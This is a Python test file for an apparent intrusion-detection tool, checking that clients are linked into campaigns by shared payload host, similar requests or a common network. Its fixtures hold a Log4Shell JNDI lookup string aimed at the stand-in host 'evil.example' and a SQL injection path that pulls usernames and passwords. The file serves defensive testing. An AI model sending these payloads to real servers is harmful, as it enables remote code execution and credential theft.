"""Who belongs together: payload host, request, tool, network."""

from __future__ import annotations

from typing import Any

from tests.detect.conftest import connections, knowledge, vulnerability

from vedette.detect.alerts import alerts_of
from vedette.detect.kernel import correlate
from vedette.detect.rules.matching import RuleSet
from vedette.model.alert import Campaign, Trait

LOG4SHELL = "CVE-2021-44228"


def jndi(client: str, host: str, path: str = "/") -> dict[str, Any]:
    return {"client_ip": client, "path": path, "user_agent": f"${{jndi:ldap://{host}:1389/a}}", "status": 200}


def campaigns(
    rules: RuleSet, *rows: dict[str, Any], listed: tuple[str, ...] = ()
) -> dict[str, Campaign | None]:
    """The campaign of each client."""
    known = knowledge(rules, vulnerability(LOG4SHELL), listed=listed)
    found = alerts_of(correlate(connections(*rows), known), known)
    return {alert.client.ip: alert.campaign for alert in found if alert.client is not None}


def test_clients_whose_payloads_name_one_host_are_one_campaign(rules: RuleSet) -> None:
    found = campaigns(
        rules,
        jndi("198.51.100.1", "evil.example"),
        jndi("203.0.113.9", "EVIL.example", "/x"),
        jndi("192.0.2.200", "other.example"),
    )
    first = found["198.51.100.1"]
    assert first is not None
    assert (first.trait, first.shared, first.clients) == (Trait.PAYLOAD_HOST, "evil.example", 2)
    assert found["203.0.113.9"] == first
    assert found["192.0.2.200"] is None


def test_ids_are_the_same_whoever_else_is_there_and_in_whatever_order(rules: RuleSet) -> None:
    rows = [jndi("198.51.100.1", "evil.example"), jndi("203.0.113.9", "evil.example")]
    ids = {c.id for c in campaigns(rules, *rows).values() if c}
    again = campaigns(rules, jndi("192.0.2.200", "evil.example"), *reversed(rows))
    assert len(ids) == 1
    assert {c.id for c in again.values() if c} == ids


def test_the_same_request_but_for_its_numbers_links_clients(rules: RuleSet) -> None:
    path = "/item?id={}+union+select+username,password+from+users--"
    found = campaigns(
        rules,
        {"client_ip": "198.51.100.1", "path": path.format(17), "status": 200},
        {"client_ip": "203.0.113.9", "path": path.format(4711), "status": 200},
    )
    assert {c.trait if c else None for c in found.values()} == {Trait.REQUEST}


def test_listed_clients_of_one_network_are_linked_and_a_lone_one_is_not(rules: RuleSet) -> None:
    clients = ("2001:db8:bad:1::5", "2001:db8:bad:1:a::9", "2001:db8:bad:2::1")
    found = campaigns(rules, *({"client_ip": c, "path": "/", "status": 200} for c in clients), listed=clients)
    linked = [c for c in (found[client] for client in clients) if c is not None]
    assert [c.trait for c in linked] == [Trait.NETWORK] * 2
    assert found[clients[2]] is None


def test_one_client_alone_is_no_campaign(rules: RuleSet) -> None:
    found = campaigns(rules, jndi("198.51.100.1", "evil.example"), jndi("198.51.100.1", "evil.example", "/b"))
    assert found == {"198.51.100.1": None}
